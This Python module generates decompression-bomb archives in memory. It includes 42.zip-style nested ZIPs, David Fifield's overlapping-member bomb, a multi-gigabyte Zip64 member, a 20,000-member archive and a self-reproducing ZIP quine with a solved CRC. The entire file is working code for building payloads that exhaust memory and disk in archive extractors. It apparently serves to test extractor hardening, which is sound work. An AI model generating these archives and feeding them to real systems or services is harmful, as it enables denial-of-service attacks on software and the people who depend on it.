"""bombs.py - generators for hostile archives, built in memory with the
Python standard library only:

  zeros_deflate(n)     raw deflate of n zero bytes, in O(n / 1 MiB) time
  zip_bytes(entries)   a ZIP (Zip64 when needed) from prepared entries
  nested_zip(...)      42.zip-style nesting: fanout^levels huge members
  overlap_zip(...)     Fifield's "quoted overlap" construction
  big_member_zip(n)    one member of n bytes (4 GiB and more) as Zip64
  many_members_zip(n)  n tiny members
  quine_zip()          a ZIP that contains itself (Russ Cox's construction)

Nothing here writes to disk; callers do.
"""

import functools
import struct
import zlib

MIB = 1 << 20


def zeros_deflate(n):
    """Raw deflate stream of n zero bytes. Each full-flushed 1 MiB chunk
    compresses to the same bytes, so the stream is one chunk repeated."""
    full, rest = divmod(n, MIB)
    out = []
    if full:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        first = c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)
        again = c.compress(bytes(MIB)) + c.flush(zlib.Z_FULL_FLUSH)
        out.append(first)
        out.append(again * (full - 1))
        tail = c.compress(bytes(rest)) + c.flush(zlib.Z_FINISH)
    else:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        tail = c.compress(bytes(rest)) + c.flush(zlib.Z_FINISH)
    out.append(tail)
    return b"".join(out)


def zeros_crc(n):
    crc = 0
    chunk = bytes(MIB)
    full, rest = divmod(n, MIB)
    for _ in range(full):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(bytes(rest), crc)


class Entry:
    """A member: name, method, the stored (compressed) bytes, CRC, size."""

    def __init__(self, name, data=None, method=8, comp=None, crc=None, usize=None, flags=0):
        if isinstance(name, str):
            name = name.encode()
        self.name = name
        self.method = method
        self.flags = flags
        if data is not None:
            self.usize = len(data)
            self.crc = zlib.crc32(data)
            if method == 8:
                c = zlib.compressobj(6, zlib.DEFLATED, -15)
                self.comp = c.compress(data) + c.flush()
            else:
                self.comp = data
        else:
            self.comp, self.crc, self.usize = comp, crc, usize


def zip_bytes(entries):
    """A ZIP archive of the entries; Zip64 records where sizes or offsets
    need them."""
    out = bytearray()
    central = bytearray()
    for e in entries:
        off = len(out)
        big = e.usize >= 0xFFFFFFFF or len(e.comp) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, e.usize, len(e.comp)) if big else b""
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if big else 20, e.flags, e.method,
                           0, 0x21, e.crc,
                           0xFFFFFFFF if big else len(e.comp),
                           0xFFFFFFFF if big else e.usize, len(e.name), len(extra))
        out += e.name + extra
        out += e.comp
        cbig = big or off >= 0xFFFFFFFF
        cextra = b""
        if cbig:
            cextra = struct.pack("<HHQQQ", 1, 24, e.usize, len(e.comp), off)
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45 if cbig else 20,
                               45 if cbig else 20, e.flags, e.method, 0, 0x21, e.crc,
                               0xFFFFFFFF if cbig else len(e.comp),
                               0xFFFFFFFF if cbig else e.usize, len(e.name), len(cextra),
                               0, 0, 0, 0, 0xFFFFFFFF if cbig else off)
        central += e.name + cextra
    cdoff = len(out)
    out += central
    n = len(entries)
    if cdoff >= 0xFFFFFFFF or n >= 0xFFFF:
        z64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, len(central), cdoff)
        out += struct.pack("<IIQI", 0x07064B50, 0, z64, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF,
                           0xFFFFFFFF, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, len(central), cdoff, 0)
    return bytes(out)


def nested_zip(levels=4, fanout=16, inner=1 << 30):
    """42.zip's shape: `levels` levels of zips with `fanout` members each;
    the innermost members are `inner` zero bytes each."""
    comp = zeros_deflate(inner)
    crc = zeros_crc(inner)
    data = zip_bytes([Entry("%x.bin" % i, comp=comp, crc=crc, usize=inner)
                      for i in range(fanout)])
    for lvl in range(levels - 1):
        data = zip_bytes([Entry("lib%x_%d.zip" % (i, lvl), data) for i in range(fanout)])
    return data


def _stored_quote(b):
    """A non-final stored deflate block holding b (5-byte header)."""
    return struct.pack("<BHH", 0, len(b), len(b) ^ 0xFFFF) + b


def overlap_zip(nfiles=20, kernel=64 * MIB):
    """David Fifield's non-recursive bomb, quoted-overlap form. The layout
    is H0 Q0 H1 Q1 ... H(n-1) K: Hi is member i's local header, Qi a stored
    deflate block header quoting H(i+1), K one compressed kernel of `kernel`
    zero bytes. Member i's data runs from after Hi to the end of K, so it
    decompresses to H(i+1) ... H(n-1) and the kernel's zeros: every member
    overlaps the next, and all share the kernel."""
    kcomp = zeros_deflate(kernel)
    names = [("%04d" % i).encode() for i in range(nfiles)]
    headers = [b""] * nfiles
    csize = len(kcomp)
    usize = kernel
    quoted = b""
    for i in range(nfiles - 1, -1, -1):
        crc = _crc_extend_zeros(zlib.crc32(quoted), kernel)
        headers[i] = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, csize, usize,
                                 len(names[i]), 0) + names[i]
        headers[i] = (headers[i], crc, csize, usize)
        # member i-1 quotes header i, then runs on into member i's data
        csize += 5 + len(headers[i][0])
        usize += len(headers[i][0])
        quoted = headers[i][0] + quoted
    body = bytearray()
    starts = []
    for i in range(nfiles):
        starts.append(len(body))
        body += headers[i][0]
        if i + 1 < nfiles:
            nxt = headers[i + 1][0]
            body += struct.pack("<BHH", 0, len(nxt), len(nxt) ^ 0xFFFF)
    body += kcomp
    central = bytearray()
    for i in range(nfiles):
        _, crc, cs, us = headers[i]
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, cs,
                               us, len(names[i]), 0, 0, 0, 0, 0, starts[i])
        central += names[i]
    cdoff = len(body)
    body += central
    body += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, nfiles, nfiles, len(central), cdoff, 0)
    return bytes(body)


def _crc_extend_zeros(crc, n):
    chunk = bytes(MIB)
    full, rest = divmod(n, MIB)
    for _ in range(full):
        crc = zlib.crc32(chunk, crc)
    return zlib.crc32(bytes(rest), crc)


def big_member_zip(n=(4 << 30) + 1, name="zeros.bin"):
    """One member of n zero bytes, deflated, with Zip64 sizes."""
    return zip_bytes([Entry(name, comp=zeros_deflate(n), crc=zeros_crc(n), usize=n)])


def zeros_gzip(n):
    """A gzip stream of n zero bytes."""
    return (b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + zeros_deflate(n) +
            struct.pack("<II", zeros_crc(n), n & 0xFFFFFFFF))


def many_members_zip(n=20000):
    return zip_bytes([Entry("d%02d/f%05d.txt" % (i % 100, i), ("member %05d\n" % i).encode(),
                            method=0) for i in range(n)])


# ---- the quine -------------------------------------------------------------

class _Bits:
    def __init__(self):
        self.v = 0
        self.n = 0

    def put(self, value, nbits):
        self.v |= value << self.n
        self.n += nbits

    def code(self, code, nbits):
        # Huffman codes go most significant bit first
        r = 0
        for i in range(nbits):
            r = (r << 1) | ((code >> i) & 1)
        self.put(r, nbits)

    def bytes(self):
        assert self.n % 8 == 0
        return self.v.to_bytes(self.n // 8, "little")


_LBASE = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59, 67, 83, 99,
          115, 131, 163, 195, 227, 258]
_LEXT = [0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 2, 2, 2, 2, 3, 3, 3, 3, 4, 4, 4, 4, 5, 5, 5, 5, 0]
_DBASE = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513, 769, 1025,
          1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
_DEXT = [0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10, 11, 11, 12,
         12, 13, 13]


def _lit_code(sym, b):
    if sym < 144:
        b.code(0x30 + sym, 8)
    elif sym < 256:
        b.code(0x190 + sym - 144, 9)
    elif sym < 280:
        b.code(sym - 256, 7)
    else:
        b.code(0xC0 + sym - 280, 8)


def _copy_bits(length, dist, b):
    i = max(k for k in range(29) if _LBASE[k] <= length)
    if length == 258:
        i = 28
    _lit_code(257 + i, b)
    b.put(length - _LBASE[i], _LEXT[i])
    j = max(k for k in range(30) if _DBASE[k] <= dist)
    b.code(j, 5)
    b.put(dist - _DBASE[j], _DEXT[j])


@functools.lru_cache(maxsize=None)
def _copy_nbits(length, dist):
    i = 28 if length == 258 else max(k for k in range(29) if _LBASE[k] <= length)
    j = max(k for k in range(30) if _DBASE[k] <= dist)
    return (8 if 257 + i >= 280 else 7) + _LEXT[i] + 5 + _DEXT[j]


@functools.lru_cache(maxsize=None)
def _repeat(n, final, size):
    """Deflate blocks that repeat the last n bytes, exactly `size` bytes
    long and ending on a byte boundary: a fixed-Huffman block with one to
    three copies (distance n) and empty fixed blocks to pad."""
    def splits():
        yield [n]
        for a in range(3, n - 2):
            yield [a, n - a]
        if 10 + 3 * 12 > size * 8:
            return  # three copies cannot fit
        for a in range(3, n - 5):
            for c in range(3, n - a - 2):
                yield [a, c, n - a - c]
    for parts in splits():
        if any(p > 258 for p in parts):
            continue
        core = 3 + sum(_copy_nbits(p, n) for p in parts) + 7
        for empties in range(0, 4):
            if core + 10 * empties == size * 8:
                b = _Bits()
                b.put(1 if (final and empties == 0) else 0, 1)
                b.put(1, 2)
                for p in parts:
                    _copy_bits(p, n, b)
                _lit_code(256, b)
                for k in range(empties):
                    b.put(1 if (final and k == empties - 1) else 0, 1)
                    b.put(1, 2)
                    _lit_code(256, b)
                return b.bytes()
    raise ValueError("no %d-byte encoding of repeat %d" % (size, n))


def _literal(data):
    return struct.pack("<BHH", 0, len(data), len(data) ^ 0xFFFF) + data


def _encodable(n, u):
    try:
        _repeat(n, False, u)
        return True
    except ValueError:
        return False


def quine_zip(name=b"quine/qqqqqqqqqqqqqqqqqqqq.zip"):
    """A ZIP whose one member, deflated, is the ZIP itself. The compressed
    data is Russ Cox's self-reproducing Lempel-Ziv program with a prefix
    (the local header) and a suffix (central directory and end record):
    every instruction is 5 bytes, literals are stored blocks and repeats
    are fixed-Huffman blocks padded to 5 bytes. The CRC field, which the
    output contains, is solved as a linear system over GF(2)."""
    u = 5
    p = 30 + len(name)
    if not _encodable(p + u, u):
        raise ValueError("no repeat instruction for a %d-byte name" % len(name))
    # the end record's comment pads the suffix to a length a repeat can copy
    s = 46 + len(name) + 22
    s = next(k for k in range(s, 258 - u + 1) if _encodable(k + u, u))
    comment = b"q" * (s - (46 + len(name) + 22))

    def build(crc):
        def lfh(csize, usize):
            return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, csize, usize,
                               len(name), 0) + name

        def tail(csize, usize):
            cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, csize,
                             usize, len(name), 0, 0, 0, 0, 0, 0) + name
            return cd + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), p + csize,
                                    len(comment)) + comment

        L0 = _literal(b"")
        Rp = _repeat(p + u, False, u)
        R4 = _repeat(4 * u, False, u)
        Rs = _repeat(s + u, True, u)

        def L(k):
            return struct.pack("<BHH", 0, k, k ^ 0xFFFF)

        # the code's length does not depend on P and S's contents
        csize = (u + p + u) + u + (u + u) + (u + u) + (u + 4 * u) + u + (u + 4 * u) + u + \
            (u + 4 * u) + u + u + u + (u + u + s) + u
        usize = p + csize + s
        P = lfh(csize, usize)
        S = tail(csize, usize)
        Lp, L1, L4, Ls = L(p + u), L(u), L(4 * u), L(s + u)
        code = b"".join([
            Lp, P, Lp,
            Rp,
            L1, Rp,
            L1, L1,
            L4, Rp, L1, L1, L4,
            R4,
            L4, R4, L4, R4, L4,
            R4,
            L4, R4, L0, L0, Ls,
            R4,
            L0,
            L0,
            Ls, Rs, S,
            Rs,
        ])
        assert len(code) == csize
        return P + code + S, code

    zero, _ = build(0)
    base = zlib.crc32(zero)
    cols = []
    for i in range(32):
        f, _ = build(1 << i)
        cols.append(zlib.crc32(f) ^ base)
    # crc(build(v)) = base ^ XOR_i v_i * (crc(build(e_i)) ^ base); solve v = crc(build(v))
    rows = []
    for bit in range(32):
        row = 0
        for i in range(32):
            if cols[i] >> bit & 1:
                row |= 1 << i
        row ^= 1 << bit
        rows.append([row, base >> bit & 1])
    v = _solve_gf2(rows)
    data, code = build(v)
    assert zlib.crc32(data) == v
    assert zlib.decompress(code, -15) == data
    return data


def _solve_gf2(rows):
    n = 32
    rows = [r[:] for r in rows]
    where = [-1] * n
    r = 0
    for col in range(n):
        piv = next((k for k in range(r, n) if rows[k][0] >> col & 1), None)
        if piv is None:
            continue
        rows[r], rows[piv] = rows[piv], rows[r]
        for k in range(n):
            if k != r and rows[k][0] >> col & 1:
                rows[k][0] ^= rows[r][0]
                rows[k][1] ^= rows[r][1]
        where[col] = r
        r += 1
    v = 0
    for col in range(n):
        if where[col] >= 0 and rows[where[col]][1]:
            v |= 1 << col
    return v
